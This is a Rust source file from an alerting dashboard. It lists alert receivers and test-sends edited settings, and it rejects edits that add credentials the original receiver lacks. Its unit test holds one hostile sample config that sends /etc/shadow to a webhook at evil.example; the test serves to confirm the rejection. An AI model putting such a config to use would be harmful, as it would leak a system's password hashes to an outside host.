//! The receivers as the dashboard shows them, and trying one out with other settings.

use super::delivery::Desk;
use crate::config::{EditedReceiver, filled_in, settings_of};
use keywatch_alerting::{OsRandom, Receiver, TestReport, Verdict, send_test};
use keywatch_dashboard::{ReceiverInfo, Receivers, SentInfo, Trial, TrialInfo};
use keywatch_secrets::SecretRef;

impl Receivers for Desk {
    fn list(&self) -> Vec<ReceiverInfo> {
        self.receivers().iter().map(info).collect()
    }

    fn try_out(&self, name: String, settings: String) -> Trial {
        let (receivers, outbound) = (self.receivers(), self.outbound());
        Box::pin(async move {
            let Some(outbound) = outbound else { return TrialInfo::default() };
            let Some(original) = receivers.iter().find(|receiver| receiver.name == name) else {
                return refused(vec![format!("there is no receiver {name}")]);
            };
            let edited = match edited(original, &settings) {
                Ok(edited) => edited,
                Err(problems) => return refused(problems),
            };
            match send_test(&edited, &outbound, &crate::clock::SystemClock, &OsRandom).await {
                Ok(report) => told(report),
                Err(problems) => refused(problems.iter().map(ToString::to_string).collect()),
            }
        })
    }
}

/// The receiver the settings describe. Under its own name, and with no other credentials than it
/// has: whoever may open the dashboard may not have every secret of this machine sent somewhere.
fn edited(original: &Receiver, settings: &str) -> Result<Receiver, Vec<String>> {
    let EditedReceiver { mut receiver, problems } = EditedReceiver::read(&filled_in(settings, original));
    let strange: Vec<String> = receiver
        .iter()
        .flat_map(Receiver::credentials)
        .filter(|reference| !original.credentials().contains(reference))
        .map(|reference: &SecretRef| {
            format!(
                "{reference} is not a secret of {} in the configuration; add it there first",
                original.name
            )
        })
        .collect();
    let problems: Vec<String> = problems.into_iter().chain(strange).collect();
    match receiver.take() {
        Some(receiver) if problems.is_empty() => {
            Ok(Receiver { name: original.name.clone(), ca_file: original.ca_file.clone(), ..receiver })
        }
        _ => Err(problems),
    }
}

fn info(receiver: &Receiver) -> ReceiverInfo {
    ReceiverInfo {
        name: receiver.name.clone(),
        kind: receiver.kind.as_str().to_owned(),
        level: receiver.level_min.as_str().to_owned(),
        target: receiver.target(),
        credentials: receiver.credentials().iter().map(ToString::to_string).collect(),
        settings: settings_of(receiver),
    }
}

fn refused(problems: Vec<String>) -> TrialInfo {
    TrialInfo { problems, ..TrialInfo::default() }
}

fn told(report: TestReport) -> TrialInfo {
    let TestReport { sent, reply, .. } = report;
    let sent = sent.into_iter().map(|shown| SentInfo {
        target: shown.target,
        headers: shown.headers,
        body: shown.body,
    });
    TrialInfo {
        problems: Vec::new(),
        sent: sent.collect(),
        delivered: reply.verdict == Verdict::Delivered,
        status: reply.status,
        latency_ms: u64::try_from(reply.latency.as_millis()).unwrap_or(u64::MAX),
        answer: reply.excerpt.unwrap_or_default(),
        error: reply.error.unwrap_or_default(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use keywatch_alerting::{Address, ReceiverKind, Slack};

    fn slack() -> Receiver {
        let address = Address::Secret("env:SLACK_URL".parse().expect("a reference"));
        Receiver::new("soc", ReceiverKind::Slack(Slack { address }))
    }

    #[test]
    fn a_form_may_change_everything_but_which_secrets_are_used() {
        let same =
            edited(&slack(), "name: other\nlevel: critical\nslack: {url: {source: env, path: SLACK_URL}}");
        assert_eq!(same.map(|receiver| receiver.name), Ok("soc".to_owned()));
        let thief =
            "name: soc\nwebhook: {url: https://evil.example/, secret: {source: file, path: /etc/shadow}}";
        let problems = edited(&slack(), thief).expect_err("another secret");
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(problems[0].contains("file:/etc/shadow is not a secret of soc"), "{problems:?}");
    }
}
